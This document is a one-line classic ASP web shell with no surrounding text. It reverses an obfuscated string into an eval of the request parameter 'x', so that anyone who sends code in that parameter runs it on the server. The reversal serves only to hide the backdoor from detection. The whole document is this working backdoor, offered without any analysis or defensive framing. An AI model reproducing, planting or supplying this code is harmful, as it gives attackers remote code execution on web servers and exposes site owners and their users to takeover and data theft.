<%
Execute(StrReverse(")""x""(tseuqer lave"))
%>
